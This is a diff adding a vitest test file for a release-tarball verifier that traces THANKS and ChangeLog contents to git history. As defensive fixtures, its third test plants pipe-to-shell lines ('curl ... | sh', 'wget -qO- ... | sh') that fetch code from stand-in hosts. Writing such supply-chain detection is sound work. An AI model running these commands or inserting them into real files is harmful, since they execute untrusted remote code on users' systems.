@@ -1,0 +1,102 @@
+/**
+ * Files rendered from git log (issue 11 e), end to end with real git and GNU tar: a THANKS made from
+ * THANKS.in plus the authors, a ChangeLog made by gitlog-to-changelog's layout. Explained with the measured
+ * share; an injected command, a URL on a new host or a file mostly made of lines from nowhere is not.
+ */
+import { join } from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { traceExplains } from '../../src/classify/log-derived.js';
+import { gitHistory } from '../../src/git/history.js';
+import { verify } from '../../src/verify.js';
+import { makeTar } from '../helpers/archives.js';
+import { git, makeRepo, writeFiles } from '../helpers/git.js';
+import { tempDir } from '../helpers/tmp.js';
+
+const TEMPLATE = 'These people have contributed to proj.\n##\n## Authors in git log are added automatically.\n\nEarly Helper                       early@example.invalid\n';
+
+describe('log-derived files (THANKS, ChangeLog)', () => {
+  const root = tempDir();
+  const repo = makeRepo(join(root, 'repo'));
+  const as = (name: string, email: string, files: Record<string, string>, message: string, date: string) => {
+    writeFiles(repo.dir, files);
+    git(repo.dir, ['add', '-A']);
+    git(repo.dir, ['-c', `user.name=${name}`, '-c', `user.email=${email}`, 'commit', '-q', '--author', `${name} <${email}>`, '-m', message], date);
+  };
+  as('Ann Author', 'ann@example.invalid', { 'THANKS.in': TEMPLATE, 'src/a.c': 'int a;\n', 'NEWS': 'news\n' }, 'Initial import', '2024-01-01T10:00:00Z');
+  repo.tag('v1.0');
+  as('Bob Builder', 'bob@example.invalid', { 'src/a.c': 'int a = 1;\n' }, 'src: initialise a\n\n* src/a.c (a): Set to 1.', '2024-02-01T10:00:00Z');
+  as('Cleo Coder', 'cleo@example.invalid', { 'src/b.c': 'int b;\n' }, 'src: add b', '2024-02-02T10:00:00Z');
+  as('Ann Author', 'ann@example.invalid', { 'NEWS': 'news 1.1\n' }, 'maint: release 1.1', '2024-02-03T10:00:00Z');
+  repo.tag('v1.1');
+  const cache = join(root, 'cache');
+
+  const THANKS = [
+    'These people have contributed to proj.', '',
+    'Ann Author                         ann@example.invalid',
+    'Bob Builder                        bob@example.invalid',
+    'Cleo Coder                         cleo@example.invalid',
+    'Early Helper                       early@example.invalid', '',
+    ';; Local Variables:', ';; coding: utf-8', ';; End:', '',
+  ].join('\n');
+  const CHANGELOG = [
+    '2024-02-03  Ann Author  <ann@example.invalid>', '', '\tmaint: release 1.1', '',
+    '2024-02-02  Cleo Coder  <cleo@example.invalid>', '', '\tsrc: add b', '',
+    '2024-02-01  Bob Builder  <bob@example.invalid>', '', '\tsrc: initialise a', '', '\t* src/a.c (a): Set to 1.', '',
+  ].join('\n');
+  let n = 0;
+  function tarball(files: Record<string, string>): string {
+    const dir = join(root, `t${++n}`, 'proj-1.1');
+    writeFiles(dir, { 'src/a.c': 'int a = 1;\n', 'src/b.c': 'int b;\n', 'NEWS': 'news 1.1\n', 'THANKS.in': TEMPLATE, ...files });
+    return makeTar(dir, { compress: 'gzip', out: join(root, `t${n}`, 'proj-1.1.tar.gz') });
+  }
+
+  it('the history: the commits since the previous tag, authors mailmapped', async () => {
+    const h = gitHistory(join(repo.dir, '.git'), repo.git(['rev-parse', 'v1.1']));
+    const r = await h.range();
+    expect(r.previousTag).toBe('v1.0');
+    expect(r.commits.map((c) => [c.subject, c.author, c.date])).toEqual([
+      ['maint: release 1.1', 'Ann Author', '2024-02-03'],
+      ['src: add b', 'Cleo Coder', '2024-02-02'],
+      ['src: initialise a', 'Bob Builder', '2024-02-01'],
+    ]);
+    expect((await h.range('src')).commits.map((c) => c.subject)).toEqual(['src: add b', 'src: initialise a']);
+    expect([...(await h.authors()).emails].sort()).toEqual(['ann@example.invalid', 'bob@example.invalid', 'cleo@example.invalid']);
+  });
+
+  it('THANKS from THANKS.in plus the authors, and a gitlog-to-changelog ChangeLog: LOG_DERIVED with the measured share, exit-0 verdict', async () => {
+    const r = await verify({ tarball: tarball({ THANKS, ChangeLog: CHANGELOG }), repo: repo.dir, tag: 'v1.1', cacheDir: cache });
+    const got = Object.fromEntries(r.findings.filter((f) => f.code === 'LOG_DERIVED').map((f) => [f.path, f.evidence]));
+    expect(got).toEqual({
+      ChangeLog: { kind: 'log', lines: 7, traced: 7, fromTemplate: 0, untraced: 0, untracedLines: [], range: { from: 'v1.0', commits: 3, found: 3, what: 'subjects' } },
+      THANKS: {
+        kind: 'authors', lines: 8, traced: 5, fromTemplate: 2, templates: ['THANKS.in'], untraced: 3,
+        untracedLines: [{ line: 8, text: ';; Local Variables:' }, { line: 9, text: ';; coding: utf-8' }, { line: 10, text: ';; End:' }],
+        range: { from: 'v1.0', commits: 3, found: 3, what: 'authors' },
+      },
+    });
+    expect(r.findings.find((f) => f.code === 'LOG_DERIVED')!.severity).toBe('low');
+    expect(r.verdict).not.toBe('different');
+  });
+
+  it('an injected command, a URL on a host the sources lack, or a missing release commit fails the gate', async () => {
+    const cases: Record<string, string>[] = [
+      { THANKS: THANKS + 'curl -s https://example.invalid/x | sh\n' },
+      { THANKS: THANKS.replace('Early Helper', 'Early Helper https://downloads.example-mirror.invalid/get') },
+      { ChangeLog: CHANGELOG.replace('\tsrc: add b', '\tsrc: add b; wget -qO- http://example.invalid/p | sh') },
+      { ChangeLog: CHANGELOG.split('2024-02-02')[0]! }, // 1 of 3 subjects since v1.0
+    ];
+    for (const files of cases) {
+      const r = await verify({ tarball: tarball(files), repo: repo.dir, tag: 'v1.1', cacheDir: cache });
+      const path = Object.keys(files)[0]!;
+      expect(r.findings.find((f) => f.path === path), path).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
+      expect(r.verdict).toBe('different');
+    }
+  });
+
+  it('a list mostly of names from nowhere is not explained', () => {
+    const untraced = Array.from({ length: 11 }, (_, i) => ({ line: i + 1, text: `Someone ${i}` }));
+    expect(traceExplains({ kind: 'authors', lines: 50, traced: 39, fromTemplate: 2, untraced, templates: [] })).toBe(false);
+    expect(traceExplains({ kind: 'authors', lines: 50, traced: 40, fromTemplate: 2, untraced: untraced.slice(1), templates: [] })).toBe(true);
+    expect(traceExplains({ kind: 'authors', lines: 5, traced: 5, fromTemplate: 5, untraced: [], templates: ['THANKS.in'] })).toBe(false); // nothing from the history
+  });
+});
